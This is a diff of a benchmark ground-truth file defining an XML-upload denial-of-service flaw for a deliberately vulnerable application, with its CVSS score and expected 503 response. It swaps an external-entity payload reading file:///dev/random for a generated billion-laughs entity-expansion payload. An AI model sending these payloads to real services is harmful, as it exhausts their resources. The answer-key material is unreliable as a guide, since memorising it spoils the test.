@@ -1,11 +1,16 @@
 import { defineFlaws } from '#game/ground-truth/define-flaws.ts'
 
+/** Ten entities, each of ten times the one before: ten thousand million letters. */
+const GROWING = `<?xml version="1.0"?><!DOCTYPE order [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghij']
+  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
+  .join('')}]><order>&j;</order>`
+
 export default defineFlaws({
   flaws: [
     {
       id: 'F122',
       title: 'An order in XML can keep the parser busy',
-      cvss: 'AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N',
+      cvss: 'AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:L/SC:N/SI:N/SA:N',
       route: 'POST /file-upload',
       parameter: 'file',
       parameterIn: 'file',
@@ -19,7 +24,7 @@ export default defineFlaws({
         path: '/file-upload',
         upload: {
           name: 'order.xml',
-          text: '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY goods SYSTEM "file:///dev/random">]><order>&goods;</order>',
+          text: GROWING,
         },
         status: 503,
         minMs: 1500,
